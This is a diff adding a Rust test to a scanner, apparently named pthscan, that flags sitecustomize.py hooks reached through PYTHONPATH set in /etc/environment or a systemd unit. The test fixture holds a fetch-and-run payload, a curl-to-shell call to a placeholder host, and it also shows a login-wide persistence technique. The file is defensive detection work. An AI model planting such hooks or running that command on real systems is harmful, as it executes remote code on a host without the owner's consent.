@@ -426,3 +426,56 @@ fn windows_and_macos_layouts_under_root_are_found() {
         );
     }
 }
+
+/// `PYTHONPATH` set in `/etc/environment` or a unit's `Environment=` puts a directory before
+/// the standard library: a `sitecustomize.py` there is reported with where it was set.
+#[test]
+fn pythonpath_set_on_the_host_puts_its_directory_on_the_path() {
+    let dir = tempfile::tempdir().unwrap();
+    let r = dir.path();
+    let hook = b"import os\nos.system('curl -s http://x.invalid | sh')\n";
+    put(r, "usr/local/lib/python3.12/os.py", b"# os\n");
+    put(
+        r,
+        "usr/local/lib/python3.12/site-packages/ok.py",
+        b"x = 1\n",
+    );
+    put(r, "etc/environment", b"PYTHONPATH=\"/opt/login\"\n");
+    put(r, "opt/login/sitecustomize.py", hook);
+    put(
+        r,
+        "etc/systemd/system/app.service",
+        b"[Service]\nEnvironment=\"PYTHONPATH=/srv/unit\" LANG=C\nExecStart=/usr/local/bin/python3 -m app\n",
+    );
+    put(r, "srv/unit/sitecustomize.py", hook);
+    let out = pthscan(&["--root", r.to_str().unwrap(), "--format", "json"]);
+    let json: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
+    for (file, set_in) in [
+        (
+            "opt/login/sitecustomize.py",
+            "etc/environment:1, every login session",
+        ),
+        (
+            "srv/unit/sitecustomize.py",
+            "app.service:2, service app.service",
+        ),
+    ] {
+        let f = json["findings"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .find(|f| {
+                f["rule"] == "CUS001" && f["location"]["path"].as_str().unwrap().ends_with(file)
+            })
+            .unwrap_or_else(|| panic!("{file}: {json:#}"));
+        assert_eq!(f["severity"], "high");
+        assert!(
+            f["notes"]
+                .as_array()
+                .unwrap()
+                .iter()
+                .any(|n| n.as_str().unwrap().contains(set_in)),
+            "{f:#}"
+        );
+    }
+}
